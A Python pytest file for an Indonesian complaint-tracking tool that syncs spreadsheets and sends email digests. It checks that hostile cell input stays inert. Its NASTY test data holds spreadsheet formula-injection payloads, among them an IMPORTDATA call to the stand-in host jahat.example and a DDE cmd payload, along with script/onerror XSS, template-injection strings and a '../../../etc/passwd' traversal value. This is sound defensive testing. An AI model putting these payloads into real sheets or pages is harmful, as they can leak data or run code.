"""Bad input, from Kendali to single cells: it is said what is wrong and what to do, and nothing is lost."""

import json
import os
import re
import shutil
from collections.abc import Iterator
from email import message_from_bytes, policy
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from automation.cli.compose import jakarta_now
from automation.cli.state import start_log
from automation.model.cells import Value
from automation.sheets.prepare import INTAKE_COLUMNS, INTAKE_HEADING_ROW as HEAD
from automation.tables import intake
from automation.tables.intake import COORDINATOR, VOLUNTEER
from automation.tables.kendali import HEADINGS, JOURNAL, REGISTER, SOURCES
from tests.conftest import Say
from tests.examples import ALL
from tests.google_city import City
from tests.operator_desk import BENDA, TAB, Desk
from tests.programs import bound_by_permissions
from tests.sheets_server.fixtures import Google
from tests.sheets_server.model import EMPTY
from tests.sheets_server.people import _with
from tests.town import peoples_cells
from tests.xlsx_person import Editor

pytestmark = pytest.mark.sampled(6, tests=6)

#: The first row (0-based) of complaints in a tab that `setup` made.
FIRST = HEAD + 1
NASTY = (
    '=IMPORTDATA("https://jahat.example/?"&A2)',
    '=HYPERLINK("https://jahat.example","klik")',
    "+62 812 0000 1021",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "{{ 7 * 7 }} {% raise %} {baris} %s",
    "🙏🏽👨‍👩‍👧 ujian",
    "\u202eقانون\u2069 \u200f",
    "a\u0007b\u001b[2Jc\u2028d",
    "x\u007fy\ufffez",
    "‘’“”–•\u00a0\u3000",
)
#: The test command has each text in some of the columns.
EVERY = 1 if ALL else 4

COMPLAINT: dict[str, Value] = {
    intake.RECEIVED: f"{jakarta_now():%d/%m/%Y}",
    intake.CHANNEL: "Hotline",
    intake.NAME: "Ibu Yati",
    intake.PHONE: "081200001021",
    intake.ADDRESS: "Gg. Mawar no 4",
    intake.CATEGORY: "Jalan & Drainase",
    intake.DESCRIPTION: "Got mampet di depan musala, air naik ke jalan",
}


def fails(desk: Desk, capsys: pytest.CaptureFixture[str], *arguments: str) -> str:
    capsys.readouterr()
    assert desk.run(*arguments) == 2
    captured = capsys.readouterr()
    assert captured.out == ""
    return captured.err


# Kendali ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kendali", "words"),
    [
        (".", "menunjuk sebuah folder"),
        ("Kendali.ods", "bukan berkas .xlsx"),
        ("Kendali", "bukan berkas .xlsx"),
        ("kendalli.xlsx", "Kendali tidak ditemukan"),
        ("https://docs.google.com/spreadsheets/d/1AbCdEfGhIjKlMnOpQrStUvWxYz/edit", "belum berisi kunci Google"),
        ("https://example.org/x", "belum berisi kunci Google"),
    ],
)
def test_a_kendali_that_can_not_be_one_is_said_before_anything_is_done(
    desk: Desk, capsys: pytest.CaptureFixture[str], kendali: str, words: str
) -> None:
    shutil.copy(desk.folder / "Kendali.xlsx", desk.folder / "Kendali.ods")
    desk.credentials.write_text(json.dumps({"kendali": kendali}), "utf-8")
    for arguments in (["sync"], ["digest", "harian"], ["run"], ["sync", "--dry-run"]):
        assert words in fails(desk, capsys, *arguments)
    assert desk.shown(intake.TICKET) == [None]


def test_a_damaged_kendali_is_said_and_stays_as_it_is(desk: Desk, capsys: pytest.CaptureFixture[str]) -> None:
    path = desk.folder / "Kendali.xlsx"
    path.write_bytes(path.read_bytes()[:2000])
    before = path.read_bytes()
    capsys.readouterr()
    assert desk.run("sync") == 1
    assert "rusak, belum selesai disalin" in capsys.readouterr().err
    assert path.read_bytes() == before
    assert desk.shown(intake.TICKET) == [None]


@pytest.mark.parametrize(
    "link",
    [
        "entahlah",
        "https://docs.google.com/spreadsheets/d/1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789/edit",
        "https://[jahat",
        "//server/bagian/berkas.xlsx",
        "C:\\Users\\Rina\\Laporan.xlsx",
        "a" * 200,
        "Kendali.xlsx/apa.xlsx",
        "=A1",
        "../../../etc/passwd",
    ],
)
def test_a_nonsense_link_in_sumber_stops_only_its_own_row(desk: Desk, say: Say, link: str) -> None:
    desk.write("Kendali", SOURCES, 2, ["Kecamatan Larangan", link])
    say()
    assert desk.run("sync") == 1
    said = say()
    assert "1 spreadsheet tidak bisa dibaca" in said and "Kecamatan Larangan" in said
    assert "kesalahan di program" not in said
    assert desk.shown(intake.TICKET)[0].startswith("RR-")
    assert [row[4] == "Baik" for row in desk.rows("Kendali", SOURCES)[1:]] == [True, False]


# Cells --------------------------------------------------------------------------------------------------------------


class Page(HTMLParser):
    """The elements and links of a mail."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: set[str] = set()
        self.links: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add(tag)
        self.links += [value or "" for name, value in attrs if name in {"href", "src"}]


def assert_harmless(mail: bytes) -> None:
    """Nothing of what was typed became markup, a link, or a formula of a template."""
    message = message_from_bytes(mail, policy=policy.default)
    html = message.get_body(("html",))
    assert html is not None
    page = Page(html.get_content())
    assert not page.elements & {"script", "img", "iframe", "form", "object"}
    assert not [link for link in page.links if "jahat" in link]
    assert "jahat" not in str(message["Subject"])
    for part in message.walk():
        if not part.is_multipart():
            assert part.get_content() != "49" and "\x1b" not in part.get_content()


def test_whatever_stands_in_a_cell_of_a_local_workbook_is_text_and_stays_where_it_is(desk: Desk) -> None:
    columns = [column for column in (*VOLUNTEER, *COORDINATOR, intake.TICKET) if column.in_new_tabs]
    # What XML does not allow stands in a file as its code.
    nasty = [re.sub("[\x00-\x08\x0b-\x1f\ufffe]", lambda mark: f"_x{ord(mark[0]):04X}_", text) for text in NASTY]
    typed = [(column, text) for at, text in enumerate(nasty) for column in columns[at % EVERY :: EVERY]]
    desk.report(*({intake.PHONE: f"0812{n:08}", column: text} for n, (column, text) in enumerate(typed)))
    path = desk.folder / f"{BENDA}.xlsx"
    book = load_workbook(path)
    row, column = beside = FIRST, len(INTAKE_COLUMNS)
    book[TAB].cell(row + 1, column + 1).value = "=IMPORTDATA(A1)"  # a formula of people's own, beside the table
    book.save(path)
    people = peoples_cells(desk.rows(BENDA, TAB), HEAD)
    assert desk.run("sync") == 0
    assert peoples_cells(desk.rows(BENDA, TAB), HEAD) == people
    rows = desk.rows(BENDA, TAB)[FIRST:]
    assert len(rows) == 1 + len(typed)
    assert all(row[0] or row[1] for row in rows), "each has a ticket or is told why not"
    assert sum(bool(row[0]) for row in rows) > len(rows) / 3
    assert Editor(path).formulas(TAB) == [(0, 0), beside]  # the first is the status line
    assert not Editor(path).formulas(JOURNAL)
    for tab in HEADINGS:
        assert not Editor(desk.folder / "Kendali.xlsx").formulas(tab)
    assert desk.run("digest", "harian") == 0
    (mail,) = (desk.folder / "outbox").glob("*.eml")
    assert_harmless(mail.read_bytes())
    before = path.read_bytes()
    assert desk.run("sync") == 0
    assert path.read_bytes() == before, "nothing is left to do"


def test_whatever_stands_in_a_cell_of_a_google_spreadsheet_is_text_and_stays_where_it_is(
    google: Google, tmp_path: Path
) -> None:
    city = City.prepared(google, tmp_path, "Benda")
    city.subscribe("ratna@fraksi.example")
    person = city.spreadsheets["Benda"]
    columns = [intake.NAME, intake.ADDRESS, intake.DESCRIPTION, intake.CATEGORY, intake.PHONE, intake.STATUS]
    typed = [(column, text) for at, text in enumerate(NASTY) for column in columns[at % EVERY :: EVERY]]
    for number, (column, text) in enumerate(typed):
        city.type("Benda", TAB, f"#{number}", {**COMPLAINT, intake.PHONE: f"0812{number:08}", column: text})
    head = person.values(TAB)[HEAD]
    person.formula(
        TAB, FIRST, head.index(intake.DESCRIPTION), '=IMPORTDATA("https://jahat.example")', "got mampet sekali"
    )
    mine = peoples_cells(person.values(TAB), HEAD)
    assert city.run("sync") == 0
    assert peoples_cells(person.values(TAB), HEAD) == mine
    assert person.formulas(TAB) == [(0, 0), (FIRST, head.index(intake.DESCRIPTION))]  # the first is the status line
    assert person.formulas(JOURNAL) == []
    assert all(not city.kendali.formulas(tab) for tab in HEADINGS)
    rows = person.values(TAB)[FIRST:]
    assert all(row[0] or row[1] for row in rows)
    assert city.run("digest", "harian", "--preview") == 0
    (mail,) = (tmp_path / "outbox").glob("*/*.eml")
    assert_harmless(mail.read_bytes())
    city.server.requests.clear()
    assert city.run("sync") == 0
    assert city.server.count("batchUpdate") == 0, "nothing is left to do"


def test_the_longest_cells_there_can_be_are_read_and_only_shortened_in_mails(
    desk: Desk, google: Google, tmp_path: Path
) -> None:
    longest = ("jalan rusak parah " * 2000)[:32767]
    desk.report({intake.DESCRIPTION: longest, intake.ADDRESS: longest, intake.NAME: longest})
    assert desk.run("sync") == 0
    assert all(ticket.startswith("RR-") for ticket in desk.shown(intake.TICKET))
    assert desk.shown(intake.DESCRIPTION)[1] == longest
    assert max(len(str(value)) for row in desk.rows("Kendali", REGISTER) for value in row) < 1000
    city = City.prepared(google, tmp_path, "Benda")
    longest = ("jalan rusak parah " * 3000)[:50000]
    city.type("Benda", TAB, "#1", {**COMPLAINT, intake.DESCRIPTION: longest, intake.ADDRESS: longest})
    assert city.run("sync") == 0
    assert city.tickets("Benda", TAB)["#1"].startswith("RR-")
    assert longest in city.spreadsheets["Benda"].values(TAB)[FIRST]


# Sizes --------------------------------------------------------------------------------------------------------------


@pytest.mark.long
def test_more_rows_than_one_request_takes_reach_google_in_one_cycle(google: Google, tmp_path: Path) -> None:
    city = City.prepared(google, tmp_path, "Benda")
    person = city.spreadsheets["Benda"]
    head = person.values(TAB)[HEAD]
    sheet = person.sheet(TAB)
    for row in range(FIRST, FIRST + 1100):
        cells: dict[Any, Value] = {**COMPLAINT, intake.NAME: f"Warga {row}", intake.PHONE: f"0812{row:08}"}
        typed = head[2 : head.index(intake.DUE)]
        sheet.put_row(row, 2, tuple(_with(EMPTY, cells.get(heading)) for heading in typed))
    sheet.grid["rowCount"] = max(sheet.row_count, 1200)
    city.server.requests.clear()
    assert city.run("sync") == 0
    assert city.requests(person)["batchUpdate"] == 2
    tickets = [row[0] for row in person.values(TAB)[FIRST:]]
    assert len(set(tickets)) == 1100 and None not in tickets
    assert len(city.kendali.values(REGISTER)) == 1101


# Folders ------------------------------------------------------------------------------------------------------------


@pytest.fixture
def closed_folder(desk: Desk) -> Iterator[Desk]:
    """A city in a folder that may be read and not written."""
    assert desk.run("sync") == 0
    assert desk.run("digest", "harian", "--preview") == 0
    desk.report({intake.NAME: "Pak Amir", intake.PHONE: "081200001022"})
    for lock in desk.folder.glob(".*.kunci"):
        lock.unlink()
    desk.folder.chmod(0o555)
    with bound_by_permissions():
        yield desk
    desk.folder.chmod(0o755)
    start_log(Path(os.devnull))  # let go of the log before the folder goes


@pytest.mark.skipif(os.name == "nt", reason="Windows keeps permissions otherwise")
def test_a_folder_that_may_not_be_written_is_said_and_nothing_is_half_done(
    closed_folder: Desk, capsys: pytest.CaptureFixture[str]
) -> None:
    desk = closed_folder
    before = {path.name: path.read_bytes() for path in desk.folder.glob("*.xlsx")}
    capsys.readouterr()
    for command, code in (("sync", 1), ("digest harian", 1), ("run", 2), (f"demo --dir {desk.folder}/demo", 2)):
        assert desk.run(*command.split()) == code, command
        captured = capsys.readouterr()
        assert "Permission denied" in captured.out + captured.err and "izin" in captured.out + captured.err
        assert "kesalahan di program" not in captured.out + captured.err
    assert {path.name: path.read_bytes() for path in desk.folder.glob("*.xlsx")} == before
